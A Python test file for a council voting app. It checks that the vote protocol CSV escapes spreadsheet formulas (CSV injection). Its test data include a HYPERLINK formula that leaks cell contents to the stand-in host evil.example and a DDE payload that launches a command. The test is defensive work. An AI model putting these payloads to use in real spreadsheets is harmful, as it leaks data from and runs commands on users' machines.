"""The vote protocol as the clerk downloads it: spreadsheet formulas stay plain text.

A question or candidate name such as `=HYPERLINK(…)` would otherwise be a live formula in
the clerk's spreadsheet (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import httpx

from session_server import exports
from session_server.db import models
from session_server.spreadsheet import spreadsheet_cell
from tests.conftest import Server
from tests.integration.test_voting import Chamber, ok

QUESTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Budjet")'
CANDIDATES = ["=1+2", "@SUM(1)", "+1", "-1", "Karimova D."]


async def test_formulas_in_a_vote_are_plain_text_in_protocol_csv(live_server: Server) -> None:
    async with Chamber(live_server) as room:
        await room.start(present=18)
        opened = await ok(
            room.chair,
            "vote.open",
            question=QUESTION,
            kind="election",
            secret=False,
            candidates=CANDIDATES,
            max_choices=2,
            timer_seconds=0,
        )
        vote = opened["vote"]
        chosen = [["c1", "c2"], ["c3"], ["c4", "c5"], []]
        for i, deputy in enumerate(room.deputies):
            await ok(deputy, "vote.cast", vote=vote, choice=chosen[i % 4])
        await ok(room.chair, "vote.close", vote=vote)
        await room.settle()
    async with httpx.AsyncClient(base_url=live_server.url) as http:
        response = await http.get(f"/api/votes/{vote}/protocol.csv")
        assert response.status_code == 200
        record = (await http.get(f"/api/votes/{vote}")).json()
    assert record["question"] == QUESTION  # stored as asked; only the spreadsheet escapes
    rows = list(csv.reader(io.StringIO(response.text)))
    cells = [cell for row in rows for cell in row]
    formula_like = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert formula_like == [], formula_like
    assert ["question", "'" + QUESTION] in rows
    counts = {row[0]: row[1] for row in rows[rows.index(["option", "votes"]) + 1 :] if row}
    assert {"'=1+2", "'@SUM(1)", "'+1", "'-1", "Karimova D."} <= set(counts)
    # Numbers stay numbers: counts and seats are written bare, not as quoted text.
    assert all(value.isdigit() for value in list(counts.values())[:5])
    ballots = rows[rows.index(["seat", "deputy", "choice"]) + 1 :]
    assert len(ballots) == 33 and all(seat.isdigit() for seat, _, _ in ballots)
    assert any(choice == "'=1+2; @SUM(1)" for _, _, choice in ballots)
    assert any(choice == "'-1; Karimova D." for _, _, choice in ballots)


def test_every_text_cell_is_escaped_numbers_are_not() -> None:
    """Cells the command layer cannot produce (it strips leading whitespace), but a
    roster import or a future field could: tab and CR, in names and reasons."""
    now = datetime(2026, 11, 23, 6, 0, tzinfo=UTC)
    council = models.Council(id=1, name="=council", region="", rules={"seats": 35})
    session = models.Session(id=1, council_id=1, number=1, title="+title")
    item = models.AgendaItem(id=1, session_id=1, position=1, title="@item")
    deputies = [
        models.Deputy(id=1, council_id=1, full_name="\tTab Deputat", seat_no=1),
        models.Deputy(id=2, council_id=1, full_name="\rCR Deputat", seat_no=2),
        models.Deputy(id=3, council_id=1, full_name="-Minus Deputat", seat_no=3),
    ]
    rule = {"numerator": 1, "denominator": 2, "base": "present", "strict": True}
    vote = models.Vote(
        id=7,
        session_id=1,
        agenda_item_id=1,
        question="\t=1+2",
        kind="simple",
        rule=rule,
        secret=False,
        motion={},
        state="cancelled",
        opened_at=now,
        closed_at=now,
        cancel_reason="=cmd|' /C calc'!A0",
        outcome={
            "rule": rule,
            "counts": {"yes": 2, "no": 0},
            "present": 3,
            "seats": 35,
            "base_value": 3,
            "threshold": 2,
            "result": "not_adopted",
        },
        ballots={"named": [["yes", [1, 3]]]},  # published: each choice with its deputies
    )
    text = exports.protocol_csv(exports.VoteRecord(vote, session, council, item, deputies))
    rows = list(csv.reader(io.StringIO(text)))
    assert ["council", "'=council"] in rows
    assert ["question", "'\t=1+2"] in rows
    assert ["state", "cancelled", "'=cmd|' /C calc'!A0"] in rows
    assert ["1", "'\tTab Deputat", "yes"] in rows
    assert ["2", "'\rCR Deputat", "absent"] in rows
    assert ["3", "'-Minus Deputat", "yes"] in rows
    assert ["yes", "2"] in rows and ["base", "3", "threshold", "2"] in rows
    assert spreadsheet_cell(-1) == -1 and spreadsheet_cell(2.5) == 2.5
